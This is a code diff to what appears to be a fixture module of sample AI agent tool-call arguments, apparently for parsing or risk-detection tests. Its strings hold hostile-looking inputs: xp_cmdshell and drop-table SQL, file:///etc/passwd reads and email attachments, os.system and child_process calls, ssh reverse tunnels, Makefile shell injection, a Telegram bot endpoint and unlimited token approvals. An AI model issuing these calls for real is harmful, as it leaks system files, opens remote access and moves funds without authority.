@@ -152,21 +152,21 @@ _SQL = (
     "exec xp_cmdshell 'id'; execute immediate 'drop table a'; select E'a\\'b', U&'\\0041'",
     "attach 'a.db' as b; select * from read_csv('http://a.b/c'); pragma x; -- it's\n# a\n",
     "merge into a using b on a.c = b.c when matched then update set d = `e` ;",
-    "alter table \"a\" add column [b] int; grant all on a to b; truncate table c, d",
+    'alter table "a" add column [b] int; grant all on a to b; truncate table c, d',
     "select dblink('host=a port=1', 'x'), (((a))), case when b then c end, {d 'x'}, @@e, :f, ?",
 )
 _WEB = (
-    "fetch\nurl: http://203.0.113.5:80/a?next=//b.example/c#d\nmethod: POST\nbody: {\"a\": 1}",
-    "http_request\nurl: [\"http://a.b\", \"file:///etc/passwd\"]\nheaders: {\"Host\": \"c.d\"}",
-    "web_fetch\nendpoint: https://u:p@[::ffff:7f00:1]:443/%2e%2e/\nheaders: [[\"Host\", \"a\"]]",
-    "http_request\nurl: a.b/c\nfiles: {\"x\": \"/etc/passwd\"}\nproxy: socks5://a:1\nheaders: H: i",
-    "requests_post\nuri: http://api.telegram.org/bot1/sendMessage\njson: {\"chat_id\": 1}",
+    'fetch\nurl: http://203.0.113.5:80/a?next=//b.example/c#d\nmethod: POST\nbody: {"a": 1}',
+    'http_request\nurl: ["http://a.b", "file:///etc/passwd"]\nheaders: {"Host": "c.d"}',
+    'web_fetch\nendpoint: https://u:p@[::ffff:7f00:1]:443/%2e%2e/\nheaders: [["Host", "a"]]',
+    'http_request\nurl: a.b/c\nfiles: {"x": "/etc/passwd"}\nproxy: socks5://a:1\nheaders: H: i',
+    'requests_post\nuri: http://api.telegram.org/bot1/sendMessage\njson: {"chat_id": 1}',
 )
 _TOOL = (
     "some_tool\npath: /etc/passwd\nurl: http://a.b/c\ncommand: ls -la\nports: [1, 2]",
-    "write_it\nfile: {\"path\": \"a\", \"content\": \"x\"}\nhosts: [\"a.b\", \"203.0.113.5:22\"]",
-    "run\nlanguage: python\ncode: import os; os.system('id')\nargs: [\"-c\", \"id\"]",
-    "deploy\nenv: {\"A\": \"b\"}\nargv: [\"ssh\", \"-R\", \"1:b:2\", \"h\"]\nquery: select 1",
+    'write_it\nfile: {"path": "a", "content": "x"}\nhosts: ["a.b", "203.0.113.5:22"]',
+    'run\nlanguage: python\ncode: import os; os.system(\'id\')\nargs: ["-c", "id"]',
+    'deploy\nenv: {"A": "b"}\nargv: ["ssh", "-R", "1:b:2", "h"]\nquery: select 1',
     "str_replace_editor\ncommand: create\npath: /a/b\nfile_text: x\nold_str: a\nnew_str: b",
     "move_file\nsource: a\ndestination: ../b\n",
     "javascript\ncode: require('child_process').exec('id')\n",
@@ -190,17 +190,22 @@ _PAYMENT = (
     "export_wallet\naccount: main\nformat: json\n",
     'send_email\nto: ["a@b.example", "C <c@d.example>"]\nbody: x\nattachments: ["/etc/passwd"]',
     'slack_post_message\nchannel: #a\nblocks: [{"text": {"text": "x"}}]\nlabels: secret',
-    "forward_email\nto: a@b.example, c@d.example\nmessage: {\"subject\": \"a\", \"body\": \"b\"}",
+    'forward_email\nto: a@b.example, c@d.example\nmessage: {"subject": "a", "body": "b"}',
 )
 _PAYING = (
     "send_money transfer_tokens eth_send_transaction sign_typed_data x402_pay approve_token"
     " export_wallet send_sol pay_invoice send_email slack_post_message forward_email send_sms"
     " post_tweet make_call"
 )
+_TOOLS = (
+    "some_tool write_it run deploy str_replace_editor move_file javascript perl php powershell"
+    " ruby rscript read_file mcp__x__y fetch_it list_things node"
+)
 _MAKE = (
     "CC := gcc\nall: a b\n\t$(CC) -o $@ $^\na: b ; echo $< $$x\n.PHONY: all\n",
     "include x.mk\nifdef A\nX += $(shell id)\nendif\nall:\n\t@-$(X) ${Y} \\\n\tb\n",
-    "X != id\nY ?= $(X:.c=.o)\ndefine Z\na\nendef\n%.o: %.c\n\tcc $*\nall: %.o | d\n\t$(MAKE) -C e\n",
+    "X != id\nY ?= $(X:.c=.o)\ndefine Z\na\nendef\n%.o: %.c\n\tcc $*\nall: %.o | d\n"
+    "\t$(MAKE) -C e\n",
     "export A = b\nall: X = c\nall:: # d\n\tssh -R 1:b:2 $(H)\nH=a.example\n.SHELLFLAGS = -c\n",
     "$(foreach x,a b,$(eval $(x): ; id))\n$(if $(A),$(B),$(call C,1))\n",
 )
@@ -220,7 +225,8 @@ _PATCH = (
     "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
     "*** Begin Patch\n*** Add File: a/b\n+x\n*** Update File: c\n*** Move to: d\n@@\n-a\n+b\n"
     "*** Delete File: e\n*** End Patch\n",
-    "diff --git a/x b/y\nrename from x\nrename to y\nnew file mode 100755\n--- /dev/null\n+++ b/y\n",
+    "diff --git a/x b/y\nrename from x\nrename to y\nnew file mode 100755\n"
+    "--- /dev/null\n+++ b/y\n",
     "--- x\t2020-01-01\n+++ y\t2020-01-01\nIndex: z\n",
 )
 _ADDRESSES = (
@@ -292,8 +298,7 @@ TARGETS: dict[str, Target] = {
     ),
     "tool": Target(
         _arguments(
-            *"some_tool write_it run deploy str_replace_editor move_file javascript perl php".split(),
-            *"powershell ruby rscript read_file mcp__x__y fetch_it list_things node".split(),
+            *_TOOLS.split(),
         ),
         _TOOL,
         'path:_ url:_ command:_ code:_ query:_ args:_ language:_ file:_ host:_ content:_ {" ": ['
@@ -303,7 +308,7 @@ TARGETS: dict[str, Target] = {
     "payment": Target(
         _arguments(*_PAYING.split()),
         _PAYMENT,
-        'recipient:_ to:_ amount:_ currency:_ transaction:_ typed_data:_ payload:_ data:_ body:_'
+        "recipient:_ to:_ amount:_ currency:_ transaction:_ typed_data:_ payload:_ data:_ body:_"
         ' text:_ blocks:_ subject:_ attachments:_ {" ": [" "] 0xa9059cbb 0x095ea7b3 0x23b872dd'
         ' "primaryType" "domain" "message" "accepted" "authorization" "payTo" "value" eip155:8453'
         " unlimited max 1e400 -1 0x NaN % @b.example , ; < > lnbc1 bitcoin: ethereum: mailto:",
